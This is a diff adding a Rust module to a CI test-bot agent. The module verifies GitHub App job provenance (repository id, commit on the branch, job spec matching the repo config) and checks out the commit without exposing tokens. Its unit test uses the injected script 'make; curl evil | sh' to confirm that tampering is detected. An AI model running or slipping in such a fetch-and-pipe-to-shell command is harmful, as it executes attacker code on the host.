@@ -1,0 +1,466 @@
+//! GitHub App jobs, checked with GitHub itself before anything runs, and checked out.
+//!
+//! The broker hands an App job with its [`Provenance`]: the event, the repository and its id, the
+//! exact commit, and the job's name in `.github/testbot.toml`. The agent takes none of it on the
+//! broker's word. With the site's own credentials (a read-only token in the policy's
+//! `[github] token_file`, or none for public repositories) it asks GitHub's REST API:
+//!
+//! - the repository of that name has that id (a name can pass to another repository);
+//! - for a push: the commit is reachable from the branch (`compare/{branch}...{sha}` is
+//!   `identical` or `behind`);
+//! - the job's script and settings are exactly the named job of `.github/testbot.toml` at the
+//!   trusted commit (for a push, the commit itself), read by the agent, and the job's `site`, if
+//!   it names one, is this agent's site.
+//!
+//! Only then are the facts handed to the site policy, as the claims a workflow token would carry
+//! (event `push`, the verified ref and repository ids); a rule that names `workflows` or
+//! `actors` never matches an App job, since an App job has neither a workflow nor an actor GitHub
+//! vouches for. A compromised broker can at most replay a real push of the same commit.
+//!
+//! [`checkout`] then fetches exactly that commit into the job's workspace with the agent's
+//! credentials passed in the environment of `git` alone, so the job's files and its script never
+//! hold a token.
+
+use std::path::Path;
+use std::time::Duration;
+
+use secrecy::{ExposeSecret as _, SecretString};
+use serde::Deserialize;
+use testbot_proto::jobs::JobSpec;
+use testbot_proto::oidc::WorkflowClaims;
+use testbot_proto::provenance::Provenance;
+use testbot_proto::repo_config::{CONFIG_PATH, RepoConfig};
+
+/// How long one call to GitHub may take.
+const GITHUB_TIMEOUT: Duration = Duration::from_secs(20);
+
+/// How long the fetch of a job's commit may take.
+const CHECKOUT_TIMEOUT: Duration = Duration::from_secs(600);
+
+/// Why an App job is refused, or could not be checked now.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum VerifyError {
+    /// GitHub says otherwise than the broker: refused.
+    Refused(String),
+    /// GitHub could not be asked: worth trying again (another agent, or later).
+    Unavailable(String),
+}
+
+/// What the agent checks App jobs with.
+pub struct GitHubVerifier {
+    api_url: String,
+    git_url: String,
+    token: Option<SecretString>,
+    http: reqwest::Client,
+}
+
+/// An App job whose provenance GitHub confirmed.
+#[derive(Debug, Clone)]
+pub struct VerifiedJob {
+    /// The facts as a site policy reads them.
+    pub claims: WorkflowClaims,
+    /// Where to fetch the commit from.
+    pub clone_url: String,
+    pub sha: String,
+    /// Whether the repository is private (then the fetch needs the agent's token).
+    pub private: bool,
+}
+
+#[derive(Debug, Deserialize)]
+struct Repository {
+    id: u64,
+    full_name: String,
+    #[serde(default)]
+    private: bool,
+    #[serde(default)]
+    visibility: Option<String>,
+    owner: Owner,
+}
+
+#[derive(Debug, Deserialize)]
+struct Owner {
+    login: String,
+    id: u64,
+}
+
+#[derive(Debug, Deserialize)]
+struct Comparison {
+    status: String,
+}
+
+#[derive(Debug, Deserialize)]
+struct Content {
+    #[serde(default)]
+    content: Option<String>,
+    #[serde(default)]
+    encoding: Option<String>,
+}
+
+impl GitHubVerifier {
+    pub fn new(api_url: &str, git_url: &str, token: Option<SecretString>) -> GitHubVerifier {
+        testbot_proto::client::install_crypto_provider();
+        GitHubVerifier {
+            api_url: api_url.trim_end_matches('/').to_string(),
+            git_url: git_url.trim_end_matches('/').to_string(),
+            token,
+            http: reqwest::Client::builder()
+                .timeout(GITHUB_TIMEOUT)
+                .user_agent(concat!(
+                    "community-testbot-agent/",
+                    env!("CARGO_PKG_VERSION")
+                ))
+                .build()
+                .expect("an HTTP client with default settings builds"),
+        }
+    }
+
+    async fn get<T: serde::de::DeserializeOwned>(
+        &self,
+        path: &str,
+        query: &[(&str, &str)],
+    ) -> Result<Option<T>, VerifyError> {
+        let url = format!("{}{path}", self.api_url);
+        let mut request = self
+            .http
+            .get(&url)
+            .query(query)
+            .header("Accept", "application/vnd.github+json")
+            .header("X-GitHub-Api-Version", "2022-11-28");
+        if let Some(token) = &self.token {
+            request = request.bearer_auth(token.expose_secret());
+        }
+        let response = request
+            .send()
+            .await
+            .map_err(|e| VerifyError::Unavailable(format!("cannot ask GitHub for {path}: {e}")))?;
+        let status = response.status().as_u16();
+        match status {
+            200..=299 => response.json().await.map(Some).map_err(|e| {
+                VerifyError::Unavailable(format!(
+                    "GitHub's answer for {path} is not what it documents: {e}"
+                ))
+            }),
+            404 => Ok(None),
+            401 => Err(VerifyError::Refused(format!(
+                "GitHub refused the site's token for {path} (401): renew [github] token_file"
+            ))),
+            403 | 429 if is_rate_limited(&response) => Err(VerifyError::Unavailable(format!(
+                "GitHub's rate limit is reached for {path}; trying again later"
+            ))),
+            403 => Err(VerifyError::Refused(format!(
+                "GitHub does not let the site's credentials read {path} (403)"
+            ))),
+            _ => Err(VerifyError::Unavailable(format!(
+                "GitHub answered {status} for {path}"
+            ))),
+        }
+    }
+
+    /// Checks `provenance` and `spec` with GitHub; the verified facts, or why not.
+    pub async fn verify(
+        &self,
+        provenance: &Provenance,
+        spec: &JobSpec,
+        site: &str,
+    ) -> Result<VerifiedJob, VerifyError> {
+        let commit = provenance.commit();
+        if !testbot_proto::commands::is_full_sha(&commit.sha) {
+            return Err(VerifyError::Refused(format!(
+                "the job names commit {:?}, not a full 40-digit commit id",
+                commit.sha
+            )));
+        }
+        let repo: Repository = self
+            .get(&format!("/repos/{}", commit.repository), &[])
+            .await?
+            .ok_or_else(|| {
+                VerifyError::Refused(format!(
+                    "GitHub shows no repository {} to this site (private repositories need [github] token_file)",
+                    commit.repository
+                ))
+            })?;
+        if repo.id != commit.repository_id {
+            return Err(VerifyError::Refused(format!(
+                "repository {} has id {} on GitHub, not {} as the broker says: the name may belong to another repository now",
+                commit.repository, repo.id, commit.repository_id
+            )));
+        }
+        match provenance {
+            Provenance::Push { branch, .. } => {
+                if commit.config_sha != commit.sha {
+                    return Err(VerifyError::Refused(format!(
+                        "a push job's config is read at the pushed commit {}, but the broker names {}",
+                        commit.sha, commit.config_sha
+                    )));
+                }
+                self.check_on_branch(&repo.full_name, branch, &commit.sha)
+                    .await?;
+            }
+        }
+        self.check_config(&repo.full_name, &commit.config_sha, &commit.job, spec, site)
+            .await?;
+        let claims = claims_for(provenance, &repo);
+        Ok(VerifiedJob {
+            claims,
+            clone_url: format!("{}/{}.git", self.git_url, repo.full_name),
+            sha: commit.sha.clone(),
+            private: repo.private,
+        })
+    }
+
+    /// The commit is reachable from `branch`: comparing the branch with the commit finds the
+    /// commit identical to or behind the branch's head.
+    async fn check_on_branch(
+        &self,
+        repository: &str,
+        branch: &str,
+        sha: &str,
+    ) -> Result<(), VerifyError> {
+        let path = format!("/repos/{repository}/compare/{branch}...{sha}");
+        let comparison: Comparison = self.get(&path, &[]).await?.ok_or_else(|| {
+            VerifyError::Refused(format!(
+                "GitHub knows no branch {branch} or no commit {sha} in {repository}"
+            ))
+        })?;
+        match comparison.status.as_str() {
+            "identical" | "behind" => Ok(()),
+            status => Err(VerifyError::Refused(format!(
+                "commit {sha} is not on branch {branch} of {repository} (GitHub compares it as {status})"
+            ))),
+        }
+    }
+
+    /// The job's spec is the config's job `job` at `config_sha`, and names no other site.
+    async fn check_config(
+        &self,
+        repository: &str,
+        config_sha: &str,
+        job: &str,
+        spec: &JobSpec,
+        site: &str,
+    ) -> Result<(), VerifyError> {
+        use base64::Engine as _;
+        let path = format!("/repos/{repository}/contents/{CONFIG_PATH}");
+        let content: Content = self
+            .get(&path, &[("ref", config_sha)])
+            .await?
+            .ok_or_else(|| {
+                VerifyError::Refused(format!(
+                    "{repository} has no {CONFIG_PATH} at {config_sha}, so it declares no job {job}"
+                ))
+            })?;
+        let text = match (content.content, content.encoding.as_deref()) {
+            (Some(encoded), Some("base64")) => {
+                let compact: String = encoded.split_whitespace().collect();
+                base64::engine::general_purpose::STANDARD
+                    .decode(compact)
+                    .ok()
+                    .and_then(|bytes| String::from_utf8(bytes).ok())
+            }
+            _ => None,
+        }
+        .ok_or_else(|| {
+            VerifyError::Refused(format!(
+                "{CONFIG_PATH} of {repository} at {config_sha} is not a text file"
+            ))
+        })?;
+        let config = RepoConfig::parse(&text).map_err(|e| {
+            VerifyError::Refused(format!("{CONFIG_PATH} of {repository} at {config_sha}:{e}"))
+        })?;
+        let declared = config.job(job).ok_or_else(|| {
+            VerifyError::Refused(format!(
+                "{CONFIG_PATH} of {repository} at {config_sha} declares no job {job}"
+            ))
+        })?;
+        let expected = declared
+            .spec(job)
+            .map_err(|e| VerifyError::Refused(format!("job {job}: {e}")))?;
+        if let Some(field) = first_difference(&expected, spec) {
+            return Err(VerifyError::Refused(format!(
+                "the job's {field} differs from job {job} in {CONFIG_PATH} of {repository} at {config_sha}: the broker changed it"
+            )));
+        }
+        if let Some(wanted) = &declared.site
+            && wanted != site
+        {
+            return Err(VerifyError::Refused(format!(
+                "job {job} in {CONFIG_PATH} runs on site {wanted}, not on this site ({site})"
+            )));
+        }
+        Ok(())
+    }
+}
+
+fn is_rate_limited(response: &reqwest::Response) -> bool {
+    response.status().as_u16() == 429
+        || response
+            .headers()
+            .get("x-ratelimit-remaining")
+            .is_some_and(|v| v.as_bytes() == b"0")
+}
+
+/// The first field in which `got` differs from `expected`, by name.
+fn first_difference(expected: &JobSpec, got: &JobSpec) -> Option<&'static str> {
+    [
+        ("script", expected.script == got.script),
+        ("name", expected.name == got.name),
+        ("labels", expected.labels == got.labels),
+        ("env", expected.env == got.env),
+        ("secret variables", got.secret_env.is_empty()),
+        ("timeout", expected.timeout_secs == got.timeout_secs),
+        ("executor", expected.executor == got.executor),
+        ("image", expected.image == got.image),
+        ("resources", expected.resources == got.resources),
+    ]
+    .into_iter()
+    .find(|(_, same)| !same)
+    .map(|(field, _)| field)
+}
+
+/// The verified facts of an App job, as the claims a site policy reads.
+fn claims_for(provenance: &Provenance, repo: &Repository) -> WorkflowClaims {
+    let commit = provenance.commit();
+    let git_ref = provenance.git_ref();
+    WorkflowClaims {
+        iss: "github-app".into(),
+        aud: String::new(),
+        sub: format!("repo:{}:ref:{git_ref}", repo.full_name),
+        jti: String::new(),
+        exp: 0,
+        iat: 0,
+        nbf: None,
+        repository: repo.full_name.clone(),
+        repository_id: repo.id.to_string(),
+        repository_owner: repo.owner.login.clone(),
+        repository_owner_id: Some(repo.owner.id.to_string()),
+        repository_visibility: repo
+            .visibility
+            .clone()
+            .or_else(|| Some(if repo.private { "private" } else { "public" }.to_string())),
+        git_ref,
+        ref_type: Some("branch".into()),
+        ref_protected: None,
+        sha: commit.sha.clone(),
+        event_name: provenance.event().into(),
+        // GitHub does not vouch for who pushed: rules on actors never match an App job.
+        actor: String::new(),
+        actor_id: None,
+        workflow: None,
+        workflow_ref: None,
+        // Not a workflow: rules that name workflows never match an App job.
+        job_workflow_ref: format!("{}/{CONFIG_PATH}@{}", repo.full_name, provenance.git_ref()),
+        environment: None,
+        run_id: String::new(),
+        run_number: None,
+        run_attempt: None,
+        head_ref: None,
+        base_ref: None,
+        runner_environment: None,
+    }
+}
+
+/// Fetches exactly `job.sha` into `workspace` (created here; it must not exist), with the
+/// agent's token, if the repository is private, in `git`'s environment only.
+pub async fn checkout(
+    job: &VerifiedJob,
+    token: Option<&SecretString>,
+    workspace: &Path,
+) -> anyhow::Result<()> {
+    use anyhow::Context as _;
+    crate::executor::private_dir(workspace)?;
+    let git = |args: &[&str]| {
+        let mut command = tokio::process::Command::new("git");
+        command
+            .arg("-C")
+            .arg(workspace)
+            .args(args)
+            .env("GIT_TERMINAL_PROMPT", "0")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .stdin(std::process::Stdio::null())
+            .kill_on_drop(true);
+        if job.private
+            && let Some(token) = token
+        {
+            use base64::Engine as _;
+            let basic = base64::engine::general_purpose::STANDARD
+                .encode(format!("x-access-token:{}", token.expose_secret()));
+            command
+                .env("GIT_CONFIG_COUNT", "1")
+                .env("GIT_CONFIG_KEY_0", "http.extraHeader")
+                .env(
+                    "GIT_CONFIG_VALUE_0",
+                    format!("Authorization: Basic {basic}"),
+                );
+        }
+        command
+    };
+    let run = |mut command: tokio::process::Command, what: &'static str| async move {
+        let output = tokio::time::timeout(CHECKOUT_TIMEOUT, command.output())
+            .await
+            .with_context(|| format!("git {what} took longer than {CHECKOUT_TIMEOUT:?}"))?
+            .with_context(|| format!("Cannot run git {what} (is git installed?)"))?;
+        anyhow::ensure!(
+            output.status.success(),
+            "git {what} failed: {}",
+            String::from_utf8_lossy(&output.stderr).trim()
+        );
+        Ok::<_, anyhow::Error>(output.stdout)
+    };
+    run(git(&["init", "-q"]), "init").await?;
+    run(
+        git(&[
+            "fetch",
+            "-q",
+            "--no-tags",
+            "--depth",
+            "1",
+            &job.clone_url,
+            &job.sha,
+        ]),
+        "fetch",
+    )
+    .await?;
+    run(
+        git(&[
+            "-c",
+            "advice.detachedHead=false",
+            "checkout",
+            "-q",
+            "FETCH_HEAD",
+        ]),
+        "checkout",
+    )
+    .await?;
+    let head = run(git(&["rev-parse", "HEAD"]), "rev-parse").await?;
+    let head = String::from_utf8_lossy(&head).trim().to_string();
+    anyhow::ensure!(
+        head == job.sha,
+        "the checkout is at {head}, not at the job's commit {}",
+        job.sha
+    );
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_first_difference_is_named() {
+        let a = JobSpec {
+            script: "make".into(),
+            ..JobSpec::default()
+        };
+        assert_eq!(first_difference(&a, &a.clone()), None);
+        let mut b = a.clone();
+        b.script = "make; curl evil | sh".into();
+        assert_eq!(first_difference(&a, &b), Some("script"));
+        let mut c = a.clone();
+        c.resources.gpus = Some(8);
+        assert_eq!(first_difference(&a, &c), Some("resources"));
+        let mut d = a.clone();
+        d.secret_env = vec!["X".into()];
+        assert_eq!(first_difference(&a, &d), Some("secret variables"));
+    }
+}
